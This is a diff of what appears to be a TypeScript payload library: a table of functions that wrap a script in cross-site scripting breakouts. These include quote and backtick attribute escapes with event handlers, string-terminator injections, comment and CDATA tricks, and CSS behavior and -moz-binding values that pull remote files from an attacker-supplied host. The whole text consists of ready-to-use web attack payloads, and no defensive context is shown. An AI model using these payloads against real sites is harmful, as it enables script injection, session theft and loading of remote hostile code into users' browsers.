@@ -53,7 +53,7 @@ const MADE: Readonly<Record<string, (run: string) => string>> = {
     `"><div style="width: expression(${run}); behavior: url(${NET}/h.htc); -moz-binding: url(${NET}/x.xml)">`,
   'double quote breakout': (run) => `" onmouseover=${run} onfocus=${run} autofocus tabindex=0 x="`,
   'single quote breakout': (run) => `' onmouseover=${run} onfocus=${run} autofocus tabindex=0 x='`,
-  'backtick breakout': (run) => '`` onerror=' + run + ' ${' + run + '} `',
+  'backtick breakout': (run) => `\`\` onerror=${run} \${${run}} \``,
   'end of a string': (run) => `";${run};//';${run};//\`;${run};//\\";${run};//`,
   comment: (run) => `<!--><script>${run}</script>--><!-- --!><img src=x onerror=${run}>`,
   CDATA: (run) => `<![CDATA[<script>${run}</script>]]>]]><script>${run}</script>`,
